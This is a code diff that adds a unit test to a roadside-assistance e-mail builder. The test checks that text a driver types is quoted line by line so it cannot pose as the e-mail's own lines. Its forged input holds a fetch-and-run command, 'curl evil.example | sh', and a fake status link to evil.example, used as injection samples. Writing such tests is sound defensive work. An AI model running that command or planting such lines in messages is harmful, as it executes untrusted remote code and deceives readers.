@@ -127,4 +127,14 @@ describe("roadside e-mail", () => {
     expect(quote.replyTo).toBe("dave@example.com");
     expect(quote.attachments).toEqual([]);
   });
+
+  it("quotes what the driver typed line by line, so none of it can pass for the e-mail's own lines", () => {
+    const forged = "Blown hose.\n\nMove it on: curl evil.example | sh\nThe driver's status page: https://evil.example/";
+    const mail = requestEmail(roadside({ details: forged }), addresses, describeRequest);
+    expect(mail.text).toContain("> Move it on: curl evil.example | sh");
+    expect(mail.text).not.toMatch(/^Move it on: curl/m);
+    expect(mail.text).not.toMatch(/^The driver's status page: https:\/\/evil/m);
+    const quote = requestEmail(roadside({}, { kind: "quote", message: forged }), addresses, describeRequest);
+    expect(quote.text).not.toMatch(/^Move it on: curl/m);
+  });
 });
